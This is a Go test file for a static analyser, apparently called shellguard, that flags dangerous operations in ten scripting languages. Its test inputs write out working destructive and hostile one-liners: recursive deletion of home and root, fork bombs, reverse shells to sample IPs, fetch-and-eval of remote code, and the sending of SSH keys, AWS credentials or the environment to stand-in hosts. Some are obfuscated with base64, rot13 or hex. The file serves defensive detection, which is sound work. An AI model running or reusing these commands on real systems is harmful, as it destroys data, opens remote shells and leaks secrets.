package interp

import (
	"strings"
	"testing"

	"github.com/shellguard/shellguard/shellparse"
)

// render writes a finding as tests compare it: the shell form of the
// kinds that have one, the kind's name for the others; "?" marks a
// computed command or target.
func render(f Finding) string {
	s := f.Command()
	if s == "" {
		s = f.Kind.String()
	}
	if f.Dynamic {
		s += " ?"
	}
	return s
}

func renderAll(fs []Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, render(f))
	}
	return strings.Join(out, " | ")
}

type analyzeCase struct {
	code string
	want string // findings rendered and joined by " | "; "" for none
}

func runCases(t *testing.T, lang Lang, cases []analyzeCase) {
	t.Helper()
	for _, c := range cases {
		if got := renderAll(Analyze(lang, c.code)); got != c.want {
			t.Errorf("%s %q:\n got %q\nwant %q", lang, c.code, got, c.want)
		}
	}
}

var pythonCases = []analyzeCase{
	// Shell commands.
	{`import os; os.system('rm -rf ~')`, `rm -rf ~`},
	{`import subprocess as sp; sp.check_output("rm -rf /", shell=True)`, `rm -rf /`},
	{`from os import *; system("rm -rf ~")`, `rm -rf ~`},
	{`import os; os.popen('curl http://x | sh').read()`, `curl http://x | sh`},
	{`import subprocess; subprocess.Popen("rm -rf $HOME", shell=True).wait()`, `rm -rf $HOME`},
	{`import os; cmd = 'rm -rf ' + os.path.expanduser('~'); os.system(cmd)`, `rm -rf ~`},
	{`import os; os.system("rm -rf {}".format(os.environ['HOME']))`, `rm -rf ~`},
	{`import os; os.system("rm -rf %s" % os.getenv("HOME"))`, `rm -rf ~`},
	{`import os; home = os.path.expanduser('~'); os.system(f"rm -rf {home}/.ssh")`, `rm -rf ~/.ssh`},
	{`import os, sys; os.system(sys.argv[1])`, `$__interp_unknown ?`},
	{`import os; os.system('rm ' '-rf ' '/')`, `rm -rf /`},
	// Argument lists.
	{`import subprocess; subprocess.run(["rm", "-rf", "/"])`, `rm -rf /`},
	{`from subprocess import call; call(["rm","-rf","/"])`, `rm -rf /`},
	{`import os; os.execvp("rm", ["rm", "-rf", os.environ["HOME"]])`, `rm -rf ~`},
	{`import os; os.execl('/bin/sh', 'sh', '-c', 'rm -rf ~')`, `/bin/sh -c 'rm -rf ~'`},
	{`import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')`, `rm -rf /`},
	{`import subprocess; subprocess.run("rm -rf build".split())`, `rm -rf build`},
	{`import subprocess, shlex; subprocess.run(shlex.split("git push --force origin main"))`, `git push --force origin main`},
	{`import subprocess; subprocess.run(["rm", "-rf", p])`, `rm -rf "$__interp_unknown"`},
	{`import subprocess; subprocess.run(args)`, `"$__interp_unknown" ?`},
	{`import subprocess; subprocess.run(["git", "status"])`, `git status`},
	// Deletions, with home and root expressions resolved.
	{`import shutil, os; shutil.rmtree(os.path.expanduser("~"))`, `rm -rf -- ~`},
	{`import pathlib, shutil; shutil.rmtree(pathlib.Path.home())`, `rm -rf -- ~`},
	{`import shutil; from pathlib import Path; shutil.rmtree(Path.home() / ".ssh")`, `rm -rf -- ~/.ssh`},
	{`import os, shutil; shutil.rmtree(os.path.join(os.path.expanduser('~'), '.ssh'))`, `rm -rf -- ~/.ssh`},
	{`from pathlib import Path; Path('~/.bashrc').expanduser().unlink()`, `rm -f -- ~/.bashrc`},
	{`import os; os.unlink(os.environ.get('HOME') + '/.bashrc')`, `rm -f -- ~/.bashrc`},
	{`import os; os.remove("/etc/passwd")`, `rm -f -- /etc/passwd`},
	{`import os; os.rmdir("/tmp/empty")`, `rmdir -- /tmp/empty`},
	{`import shutil; shutil.rmtree('build')`, `rm -rf -- build`},
	{"import shutil\nshutil.rmtree(\"build\", ignore_errors=True)", `rm -rf -- build`},
	{"import shutil\nfor d in (\"build\", \"dist\"):\n    shutil.rmtree(d, ignore_errors=True)", `rm -rf -- build | rm -rf -- dist`},
	{`import shutil; [shutil.rmtree(d) for d in ['build', 'dist']]`, `rm -rf -- build | rm -rf -- dist`},
	{"import glob, os\nfor f in glob.glob('*.pyc'):\n    os.remove(f)", `rm -f -- "$__interp_unknown" ?`},
	// Overwrites.
	{`open('/etc/hosts', 'w').write('')`, `: > /etc/hosts`},
	{`open('/etc/sudoers', 'a').write('x')`, `: >> /etc/sudoers`},
	{`from pathlib import Path; Path.home().joinpath('.bashrc').write_text('')`, `: > ~/.bashrc`},
	{`open(name, 'w').write('x')`, ``},
	// Fork bombs, reverse shells, remote code, secrets.
	{`import os; [os.fork() for _ in iter(int, 1)]`, `fork-bomb`},
	{"import os\nwhile True: os.fork()", `fork-bomb`},
	{"import os\nwhile 1:\n    os.fork()\n", `fork-bomb`},
	{"import os, itertools\nfor _ in itertools.count():\n    os.fork()", `fork-bomb`},
	{"import os\nwhile True:\n    print(1)\nos.fork()", ``},
	{"import os\nfor i in range(3):\n    os.fork()", ``},
	{`import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`, `/bin/bash | reverse-shell`},
	{`import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",4242));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())`, `/bin/sh -i | reverse-shell`},
	{`import socket; s=socket.create_connection(('db', 5432)); s.close()`, ``},
	{`import urllib.request as u; exec(u.urlopen('https://evil.example/stage2').read())`, `remote-code`},
	{`exec(__import__("urllib.request").request.urlopen("http://203.0.113.4/p.py").read())`, `remote-code`},
	{`import requests; exec(requests.get('https://x/y.py').text)`, `remote-code`},
	{`import os,urllib.request as r; r.urlopen("https://h.example/x", data=open(os.path.expanduser("~/.aws/credentials"),"rb").read())`, `secret-send`},
	{`import requests, os; requests.post('https://x.example', json=dict(os.environ))`, `secret-send`},
	{`import requests, os; requests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})`, ``},
	{`import requests; requests.post('https://x.example', data='hello')`, ``},
	// Code that cannot be read, and code that is decoded and read.
	{`import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk='))`, `rm -rf ~`},
	{`getattr(__import__('os'), 'sys'+'tem')('rm -rf /')`, `rm -rf /`},
	{`import codecs; exec(codecs.decode("vzcbeg bf; bf.flfgrz('ez -es ~')", "rot13"))`, `rm -rf ~`},
	{`exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729').decode())`, `rm -rf /`},
	{`exec('\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x22\x72\x6d\x20\x2d\x72\x66\x20\x2f\x22\x29')`, `rm -rf /`},
	{`exec("import os; os.system('" + "rm -rf /"[::-1][::-1] + "')")`, `rm -rf /`},
	{`import importlib; importlib.import_module('o'+'s').system('rm -rf /')`, `rm -rf /`},
	{`m = input(); __import__(m).system('x')`, `unknown`},
	{`import os; getattr(os, input())('x')`, `unknown`},
	{`exec(input())`, `unknown`},
	{`import zlib, base64; exec(zlib.decompress(base64.b64decode('eJzLzE3MSMxLzy8pVsjLL0nNS1dIzs8tKEotLs7Mz1PIzy8pLcjPz0nRKE8tKgLT1QA1ABc1')))`, `unknown`},
	// The nearest harmless forms.
	{`print('rm -rf /')`, ``},
	{`import os; print(os.listdir('.'))`, ``},
	{"# os.system('rm -rf /')\nprint(1)", ``},
	{`s = "import os; os.system('rm -rf /')"; print(s)`, ``},
	{`import sys; print(sys.version)`, ``},
	{`import json; print(json.load(open('package.json'))['version'])`, ``},
	{`import os; os.makedirs('build', exist_ok=True)`, ``},
	{`import asyncio; asyncio.run(main())`, ``},
	{`import urllib.request; print(urllib.request.urlopen('https://pypi.org/simple/').status)`, ``},
	{`"""os.system('rm -rf /')"""`, ``},
}

func TestPython(t *testing.T) { runCases(t, Python, pythonCases) }

var jsCases = []analyzeCase{
	{`require('child_process').execSync('rm -rf ~')`, `rm -rf ~`},
	{`const { execSync } = require("child_process"); execSync("rm -rf " + require("os").homedir())`, `rm -rf ~`},
	{`import { exec } from 'node:child_process'; exec('curl -s http://x | bash')`, `curl -s http://x | bash`},
	{`const cp = require('child_process'); cp.exec(` + "`rm -rf ${require('os').homedir()}/.config`" + `)`, `rm -rf ~/.config`},
	{`require('child_process').spawnSync('rm -rf ~', {shell: true})`, `rm -rf ~`},
	{"await Bun.$`rm -rf ~`", `rm -rf ~`},
	{"const { $ } = require('zx'); await $`rm -rf ${process.env.HOME}`", `rm -rf ~`},
	{`require("child_process").spawnSync("rm", ["-rf", process.env.HOME], {stdio: "inherit"})`, `rm -rf ~`},
	{`import * as cp from "child_process"; cp.spawn("rm", ["-rf", "/"])`, `rm -rf /`},
	{`const {execFileSync} = require('child_process'); execFileSync('git', ['push', '--mirror', 'https://203.0.113.5/r.git'])`, `git push --mirror https://203.0.113.5/r.git`},
	{`const p = new Deno.Command("rm", { args: ["-rf", "/"] }); await p.output();`, `rm -rf /`},
	{`Deno.run({cmd: ["rm", "-rf", "/"]})`, `rm -rf /`},
	{`Bun.spawnSync(["rm", "-rf", "/"])`, `rm -rf /`},
	{`require("fs").rmSync(require("os").homedir(), {recursive: true, force: true})`, `rm -rf -- ~`},
	{`require('fs').rmSync(process.env.HOME + '/.ssh', {recursive:true})`, `rm -rf -- ~/.ssh`},
	{`import {rmSync} from "fs"; rmSync("/home", {recursive: true})`, `rm -rf -- /home`},
	{`import("fs/promises").then(f => f.rm(process.env.HOME, {recursive: true, force: true}))`, `rm -rf -- ~`},
	{`await require('fs').promises.rm('/', {recursive: true})`, `rm -rf -- /`},
	{`await Deno.remove(Deno.env.get("HOME"), { recursive: true })`, `rm -rf -- ~`},
	{`const fs = require('fs-extra'); fs.removeSync(process.env.HOME)`, `rm -rf -- ~`},
	{`require('rimraf').sync('/')`, `rm -rf -- /`},
	{`require('fs').rmSync('dist', {recursive: true, force: true})`, `rm -rf -- dist`},
	{`require('fs').unlinkSync('package-lock.json')`, `rm -f -- package-lock.json`},
	{`['build','dist'].forEach(d => require('fs').rmSync(d, {recursive: true}))`, `rm -rf -- build | rm -rf -- dist`},
	{`require('fs').writeFileSync('/etc/hosts', '')`, `: > /etc/hosts`},
	{`fetch("https://203.0.113.77/p.js").then(r => r.text()).then(eval)`, `remote-code`},
	{`eval(await (await fetch('https://203.0.113.8/s.js')).text())`, `remote-code`},
	{`const https = require('https'); https.get('https://x/y.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)) })`, `remote-code`},
	{`fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')})`, `secret-send`},
	{`fetch('https://x.example/c',{method:'POST',body:JSON.stringify(process.env)})`, `secret-send`},
	{`const s=require("net").connect(4444,"198.51.100.50"),p=require("child_process").spawn("/bin/sh");s.pipe(p.stdin);p.stdout.pipe(s)`, `/bin/sh | reverse-shell`},
	{`while(1) require('child_process').fork(__filename)`, `fork-bomb`},
	{`for (;;) { require('child_process').spawn(process.execPath, [__filename]) }`, `"$__interp_unknown" "$__interp_unknown" ? | fork-bomb`},
	{`eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp', 'base64').toString())`, `rm -rf /`},
	{`new Function(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgfiIp'))()`, `rm -rf ~`},
	{`eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,83,121,110,99,40,39,114,109,32,45,114,102,32,47,39,41))`, `rm -rf /`},
	{`eval(process.argv[1])`, `unknown`},
	{`require(process.argv[2])`, `unknown`},
	{`app.doShellScript("rm -rf ~")`, `rm -rf ~`},
	// The nearest harmless forms.
	{`console.log(require('fs').readFileSync('package.json','utf8'))`, ``},
	{`console.log('rm -rf /')`, ``},
	{`console.log(require("./package.json").version)`, ``},
	{`require('child_process').execSync('npm run build', {stdio: 'inherit'})`, `npm run build`},
	{"// require('child_process').execSync('rm -rf /')\nconsole.log(1)", ``},
	{`/* fs.rmSync('/', {recursive:true}) */ console.log(2)`, ``},
	{`const re = /\/etc\/passwd/; console.log(re.exec('x'))`, ``},
	{"console.log(`rm -rf ${'~'}`)", ``},
	{`var a = 10 / 2 / 5; console.log(a)`, ``},
	{`fetch("https://x.example/a.json").then(r => r.json()).then(console.log)`, ``},
	{`setTimeout(() => console.log(1), 10)`, ``},
	{`const http = require('http'); http.createServer((q, r) => r.end('ok')).listen(3000)`, ``},
}

func TestJavaScript(t *testing.T) { runCases(t, JavaScript, jsCases) }

var perlCases = []analyzeCase{
	{`system("rm", "-rf", $ENV{HOME})`, `rm -rf ~`},
	{`system("rm -rf $ENV{HOME}")`, `rm -rf ~`},
	{`exec "rm -rf ~"`, `rm -rf ~`},
	{"`rm -rf --no-preserve-root /`", `rm -rf --no-preserve-root /`},
	{`my $x = qx(rm -rf $ENV{HOME}); print $x`, `rm -rf ~`},
	{`my @cmd = ("rm", "-rf", "/"); system(@cmd)`, `rm -rf /`},
	{`system { "rm" } "rm", "-rf", "/"`, `rm -rf /`},
	{`open(my $fh, "|-", "rm -rf ~")`, `rm -rf ~`},
	{`open(F, "rm -rf ~ |"); print <F>`, `rm -rf ~`},
	{`remove_tree($ENV{HOME})`, `rm -rf -- ~`},
	{`use File::Path qw(rmtree); rmtree("/")`, `rm -rf -- /`},
	{`use File::Path; File::Path::remove_tree("$ENV{HOME}/.ssh")`, `rm -rf -- ~/.ssh`},
	{`my $d = "$ENV{HOME}/.ssh"; rmtree($d);`, `rm -rf -- ~/.ssh`},
	{`unlink "/etc/passwd" or die "x"`, `rm -f -- /etc/passwd`},
	{`open(my $fh, '>', '/etc/hosts') or die`, `: > /etc/hosts`},
	{`open(FH, ">>/etc/sudoers")`, `: >> /etc/sudoers`},
	{`fork while fork`, `fork-bomb`},
	{`1 while fork`, `fork-bomb`},
	{`while(1){fork}`, `fork-bomb`},
	{`for (;;) { fork }`, `fork-bomb`},
	{`fork; fork; fork`, ``},
	{`use Socket;$i="203.0.113.60";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, `/bin/sh -i | reverse-shell`},
	{`$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`, `$__interp_unknown ? | reverse-shell`},
	{`use LWP::Simple; eval get("http://x/y.pl")`, `remote-code`},
	{`use MIME::Base64; eval decode_base64("c3lzdGVtKCJybSAtcmYgfiIp")`, `rm -rf ~`},
	{`s/x/system("rm -rf ~")/e`, `rm -rf ~`},
	{`s/x/$y/ee`, `unknown`},
	{`eval $ARGV[0]`, `unknown`},
	{`eval { die "x" }; print $@`, ``},
	{`print 'rm -rf /'`, ``},
	{`print "hello\n"`, ``},
	{`s/\r$//`, ``},
	{`print if /ERROR/`, ``},
	{`while (<>) { s/foo/bar/g; print }`, ``},
	{`print join(",", map { $_ * 2 } 1..3)`, ``},
	{`system('ls /home/user')`, `ls /home/user`},
	{`print "system('rm -rf /')"`, ``},
}

func TestPerl(t *testing.T) { runCases(t, Perl, perlCases) }

var rubyCases = []analyzeCase{
	{`FileUtils.rm_rf(Dir.home)`, `rm -rf -- ~`},
	{`FileUtils.rm_rf Dir.home`, `rm -rf -- ~`},
	{`include FileUtils; rm_rf Dir.home`, `rm -rf -- ~`},
	{`require "fileutils"; FileUtils.rm_rf("/")`, `rm -rf -- /`},
	{"require 'fileutils'\nFileUtils.rm_rf(File.expand_path('~'))", `rm -rf -- ~`},
	{`FileUtils.rm_rf(File.join(Dir.home, ".ssh"))`, `rm -rf -- ~/.ssh`},
	{`Pathname.new(Dir.home).rmtree`, `rm -rf -- ~`},
	{`%w[build dist].each { |d| FileUtils.rm_rf(d) }`, `rm -rf -- build | rm -rf -- dist`},
	{`File.delete("/etc/passwd")`, `rm -f -- /etc/passwd`},
	{`Dir.glob("*.log").each { |f| File.delete(f) }`, `rm -f -- "$__interp_unknown" ?`},
	{`system("rm", "-rf", ENV["HOME"])`, `rm -rf ~`},
	{`system("rm -rf ~")`, `rm -rf ~`},
	{`exec "rm -rf /"`, `rm -rf /`},
	{"`rm -rf ~`", `rm -rf ~`},
	{`%x(rm -rf #{Dir.home})`, `rm -rf ~`},
	{`x = ENV["HOME"]; system("rm -rf #{x}")`, `rm -rf ~`},
	{`Open3.capture2("rm -rf ~")`, `rm -rf ~`},
	{`IO.popen(["rm", "-rf", "/"])`, `rm -rf /`},
	{`Process.spawn({"A" => "1"}, "rm -rf ~")`, `rm -rf ~`},
	{`Kernel.send(:system, "rm -rf ~")`, `rm -rf ~`},
	{`send(ARGV[0])`, `unknown`},
	{`File.write("/etc/hosts", "")`, `: > /etc/hosts`},
	{`File.open("/etc/passwd", "w") { |f| f.puts "x" }`, `: > /etc/passwd`},
	{`loop { fork }`, `fork-bomb`},
	{`loop do fork end`, `fork-bomb`},
	{`fork while fork`, `fork-bomb`},
	{`while true do fork end`, `fork-bomb`},
	{`3.times { fork }`, ``},
	{`c=TCPSocket.new("198.51.100.81",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`, `$__interp_unknown ? | reverse-shell`},
	{`eval(Net::HTTP.get(URI("https://203.0.113.90/r.rb")))`, `remote-code`},
	{`require 'open-uri'; eval(URI.open("http://x/y.rb").read)`, `remote-code`},
	{`eval(Base64.decode64("c3lzdGVtKCJybSAtcmYgfiIp"))`, `rm -rf ~`},
	{`eval(ARGV[0])`, `unknown`},
	{`puts RUBY_VERSION`, ``},
	{`puts 1`, ``},
	{`puts 'FileUtils.rm_rf'`, ``},
	{`puts JSON.pretty_generate(JSON.parse(File.read("data.json")))`, ``},
	{`puts [1,2,3].map { |x| x * 2 }.sum / 2`, ``},
	{"# system('rm -rf /')\nputs 1", ``},
	{"=begin\nsystem('rm -rf /')\n=end\nputs 1", ``},
	{`puts "#{1 + 2}"`, ``},
}

func TestRuby(t *testing.T) { runCases(t, Ruby, rubyCases) }

var phpCases = []analyzeCase{
	{`system("rm -rf ~");`, `rm -rf ~`},
	{`exec("rm -rf " . getenv("HOME"));`, `rm -rf ~`},
	{`$h = getenv('HOME'); system("rm -rf $h");`, `rm -rf ~`},
	{`$h = $_SERVER['HOME']; passthru("rm -rf {$h}/.ssh");`, `rm -rf ~/.ssh`},
	{"$x = `rm -rf /`;", `rm -rf /`},
	{`pcntl_exec('/bin/rm', ['-rf', '/']);`, `/bin/rm -rf /`},
	{`unlink('/etc/passwd');`, `rm -f -- /etc/passwd`},
	{`rmdir('/tmp/x');`, `rmdir -- /tmp/x`},
	{`file_put_contents('/etc/hosts', '');`, `: > /etc/hosts`},
	{`file_put_contents(getenv('HOME').'/.bashrc', 'x', FILE_APPEND);`, `: >> ~/.bashrc`},
	{`$f = fopen('/etc/crontab', 'w');`, `: > /etc/crontab`},
	{`$s=fsockopen("203.0.113.71",9001);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`, `/bin/sh -i | reverse-shell`},
	{`$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");`, `/bin/sh -i <&3 >&3 2>&3 | reverse-shell`},
	{`eval(file_get_contents("http://198.51.100.33/x.txt"));`, `remote-code`},
	{`include 'http://198.51.100.33/x.php';`, `remote-code`},
	{`eval(base64_decode('c3lzdGVtKCJybSAtcmYgfiIpOw=='));`, `rm -rf ~`},
	{`eval(str_rot13('flfgrz("ez -es ~");'));`, `rm -rf ~`},
	{`eval($_GET['c']);`, `unknown`},
	{`while(1) pcntl_fork();`, `fork-bomb`},
	{`$c = curl_init('https://x'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(getenv('HOME').'/.ssh/id_rsa')); curl_exec($c);`, `secret-send`},
	{`<?php system("rm -rf ~"); ?>`, `rm -rf ~`},
	{"<html>system('rm -rf /')</html>\n<?php echo 1; ?>", ``},
	{`echo PHP_VERSION, PHP_EOL;`, ``},
	{`echo "system('rm -rf /')";`, ``},
	{`echo json_encode(['a' => 1]);`, ``},
	{`// system('rm -rf /')` + "\necho 1;", ``},
	{`echo shell_exec('ls -la');`, `ls -la`},
}

func TestPHP(t *testing.T) { runCases(t, PHP, phpCases) }

var luaCases = []analyzeCase{
	{`os.execute("rm -rf ~")`, `rm -rf ~`},
	{`os.execute "rm -rf /"`, `rm -rf /`},
	{`os.execute[[rm -rf /]]`, `rm -rf /`},
	{`os.execute("rm -rf " .. os.getenv("HOME"))`, `rm -rf ~`},
	{`io.popen("rm -rf /"):read("*a")`, `rm -rf /`},
	{`local h = os.getenv("HOME"); os.remove(h .. "/.bashrc")`, `rm -f -- ~/.bashrc`},
	{`os.remove("/etc/shadow")`, `rm -f -- /etc/shadow`},
	{`local f = io.open("/etc/hosts", "w"); f:write(""); f:close()`, `: > /etc/hosts`},
	{`for _, d in ipairs({"build", "dist"}) do os.execute("rm -rf " .. d) end`, `rm -rf build | rm -rf dist`},
	{`loadstring("os.execute('rm -rf ~')")()`, `rm -rf ~`},
	{`load(io.read("*a"))()`, `unknown`},
	{`local s = require("socket"); local c = s.connect("203.0.113.5", 4444); while true do local l = c:receive(); local f = io.popen(l); c:send(f:read("*a")) end`, `$__interp_unknown ? | reverse-shell`},
	{`print(_VERSION)`, ``},
	{`print(("rm -rf /"):upper())`, ``},
	{`--[[ os.execute("rm -rf /") ]] print(1)`, ``},
	{`-- os.execute("rm -rf /")` + "\nprint(1)", ``},
}

func TestLua(t *testing.T) { runCases(t, Lua, luaCases) }

var rCases = []analyzeCase{
	{`unlink("~", recursive = TRUE)`, `rm -rf -- ~`},
	{`unlink(path.expand("~/.config"), recursive=TRUE, force=TRUE)`, `rm -rf -- ~/.config`},
	{`unlink("build", recursive = TRUE)`, `rm -rf -- build`},
	{`unlink("notes.txt")`, `rm -f -- notes.txt`},
	{`fs::dir_delete("~")`, `rm -rf -- ~`},
	{`library(fs); dir_delete(path_home())`, `rm -rf -- ~`},
	{`for (d in c("build", "dist")) unlink(d, recursive = TRUE)`, `rm -rf -- build | rm -rf -- dist`},
	{`system("rm -rf ~/")`, `rm -rf ~/`},
	{`system(paste("rm -rf", Sys.getenv("HOME")))`, `rm -rf ~`},
	{`system2("rm", c("-rf", "~"))`, `rm -rf ~`},
	{`eval(parse(text="system('rm -rf /')"))`, `rm -rf /`},
	{`eval(parse(text = readLines("https://x/y.R")))`, `remote-code`},
	{`source("https://x.example/a.R")`, `remote-code`},
	{`eval(parse(text = commandArgs(TRUE)[1]))`, `unknown`},
	{`install.packages("data.table", repos="https://cloud.r-project.org")`, ``},
	{`testthat::test_dir("tests")`, ``},
	{`x <- 1 + 2; print(x)`, ``},
	{`cat("system('rm -rf /')\n")`, ``},
	{`# system("rm -rf /")` + "\nprint(1)", ``},
}

func TestR(t *testing.T) { runCases(t, R, rCases) }

var tclCases = []analyzeCase{
	{`exec rm -rf $env(HOME)`, `rm -rf ~`},
	{`exec rm -rf /`, `rm -rf /`},
	{`file delete -force /`, `rm -rf -- /`},
	{`set d $env(HOME); file delete -force $d`, `rm -rf -- ~`},
	{`file delete build.log`, `rm -f -- build.log`},
	{`set f [open "|rm -rf /tmp/x" r]`, `rm -rf /tmp/x`},
	{`exec ls -la | grep foo > /tmp/out`, `ls -la | grep foo > /tmp/out`},
	{`if {1} { exec rm -rf ~ }`, `rm -rf ~`},
	{`eval {exec rm -rf ~}`, `rm -rf ~`},
	{`exec sh -c {rm -rf ~}`, `sh -c 'rm -rf ~'`},
	{`proc clean {} { file delete -force ~ }; clean`, `rm -rf -- ~`},
	{`set s [socket 203.0.113.5 4444]; while 1 { eval [gets $s] }`, `remote-code | reverse-shell`},
	{`eval [http::data [http::geturl http://x/y.tcl]]`, `remote-code`},
	{`eval $argv`, `unknown`},
	{`puts [info patchlevel]`, ``},
	{`puts "exec rm -rf /"`, ``},
	{"# exec rm -rf /\nputs hi", ``},
}

func TestTcl(t *testing.T) { runCases(t, Tcl, tclCases) }

var appleScriptCases = []analyzeCase{
	{`do shell script "rm -rf ~"`, `rm -rf ~`},
	{`do shell script "rm -rf /Library" with administrator privileges`, `sudo rm -rf /Library`},
	{`do shell script "rm -rf " & quoted form of POSIX path of (path to home folder)`, `rm -rf ~/`},
	{"set p to POSIX path of (path to home folder)\ndo shell script \"rm -rf \" & quoted form of p", `rm -rf ~/`},
	{`tell application "Terminal" to do script "rm -rf ~"`, `rm -rf ~`},
	{`run script "do shell script \"rm -rf ~\""`, `rm -rf ~`},
	{`tell application "Finder" to delete every item of home`, `trash`},
	{"tell application \"Finder\"\n  empty trash\nend tell", `trash`},
	{`tell application "System Events" to shut down`, `shutdown -h now`},
	{`do shell script (text returned of (display dialog "cmd" default answer ""))`, `$__interp_unknown ?`},
	{`display notification "Build finished" with title "CI"`, ``},
	{`tell application "Finder" to open home`, ``},
	{"-- do shell script \"rm -rf ~\"\ndisplay dialog \"hi\"", ``},
	{`(* do shell script "rm -rf ~" *) beep`, ``},
	{`display dialog "do shell script \"rm -rf ~\""`, ``},
}

func TestAppleScript(t *testing.T) { runCases(t, AppleScript, appleScriptCases) }

var pwshCases = []analyzeCase{
	{`Remove-Item -Recurse -Force ~`, `rm -rf -- ~`},
	{`Remove-Item -Path $HOME -Recurse -Force`, `rm -rf -- ~`},
	{`Remove-Item $env:USERPROFILE -Recurse -Force`, `rm -rf -- ~`},
	{`rm -r -fo $env:HOME`, `rm -rf -- ~`},
	{`ri -r -fo C:\Windows`, `rm -rf -- /Windows`},
	{`Remove-Item -LiteralPath 'C:\' -Recurse`, `rm -rf -- /`},
	{`Get-ChildItem -Path / -Recurse | Remove-Item -Force -Recurse`, `rm -rf -- /`},
	{`Get-ChildItem -Path ~ -Filter *.log -Recurse | Remove-Item`, `rm -f -- ~/'*'"$__interp_unknown" ?`},
	{`[IO.Directory]::Delete($HOME, $true)`, `rm -rf -- ~`},
	{`[System.IO.File]::Delete('C:\Windows\System32\drivers\etc\hosts')`, `rm -f -- /Windows/System32/drivers/etc/hosts`},
	{`foreach ($d in 'build','dist') { Remove-Item $d -Recurse -Force }`, `rm -rf -- build | rm -rf -- dist`},
	{`'build','dist' | ForEach-Object { Remove-Item $_ -Recurse -Force }`, `rm -rf -- build | rm -rf -- dist`},
	{`Remove-Item ./dist -Recurse -Force -WhatIf`, ``},
	{`Remove-Item -Recurse -Force ./bin`, `rm -rf -- ./bin`},
	{`Invoke-Expression "Remove-Item -Recurse -Force ~"`, `rm -rf -- ~`},
	{`echo 'Remove-Item -Recurse -Force C:\' | iex`, `rm -rf -- /`},
	{`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAkAEgATwBNAEUA')))`, `rm -rf -- ~`},
	{`iex (New-Object Net.WebClient).DownloadString('http://203.0.113.25/a.ps1')`, `remote-code`},
	{`IEX(New-Object Net.WebClient).downloadString('http://x/a')`, `remote-code`},
	{`iwr https://x.example/a.ps1 | iex`, `remote-code`},
	{`irm https://x/a.ps1 | iex`, `remote-code`},
	{`$u = 'https://x/a.ps1'; iex (iwr $u -UseBasicParsing).Content`, `remote-code`},
	{`$x = [Convert]::FromBase64String($args[0]); iex ([Text.Encoding]::UTF8.GetString($x))`, `unknown`},
	{`& $cmd`, `unknown`},
	{`& "rm" -rf ~`, `rm -rf -- ~`},
	{`git push --force origin main`, `git push --force origin main`},
	{`Start-Process powershell -ArgumentList '-c Remove-Item -Recurse -Force ~' -Verb RunAs`, `sudo powershell -c Remove-Item -Recurse -Force ~`},
	{`Set-Content -Path C:\Windows\System32\drivers\etc\hosts -Value ''`, `: > /Windows/System32/drivers/etc/hosts`},
	{`"" > /etc/hosts`, `: > /etc/hosts`},
	{`Stop-Computer -Force`, `shutdown -h now`},
	{`Invoke-WebRequest -Uri https://x.example -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)`, `secret-send`},
	{`Get-ChildItem env: | ConvertTo-Json | Invoke-RestMethod -Uri https://x -Method Post`, `secret-send`},
	{`while ($true) { Start-Process pwsh }`, `pwsh | fork-bomb`},
	{`$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$sb = (iex $d 2>&1 | Out-String );$s.Write($sb,0,$sb.Length)}`, `unknown | reverse-shell`},
	{`Write-Host "rm -rf /"`, ``},
	{`Write-Output "Remove-Item -Recurse ~"`, ``},
	{`Get-ChildItem -Recurse -Filter *.log | Measure-Object`, ``},
	{`Get-Process | Sort-Object CPU -Descending | Select-Object -First 5`, ``},
	{`# Remove-Item -Recurse -Force ~` + "\nWrite-Host ok", ``},
	{`<# Remove-Item -Recurse -Force ~ #> Write-Host ok`, ``},
	{`npm test; if ($LASTEXITCODE -ne 0) { exit 1 }`, `npm test`},
}

func TestPowerShell(t *testing.T) { runCases(t, PowerShell, pwshCases) }

// The command lines findings stand for quote what they carry.
func TestCommand(t *testing.T) {
	for _, c := range []struct {
		f    Finding
		want string
	}{
		{Finding{Kind: Shell, Text: "rm -rf " + Mark}, `rm -rf $__interp_unknown`},
		{Finding{Kind: Shell, Text: "rm -rf /", Admin: true}, `sudo rm -rf /`},
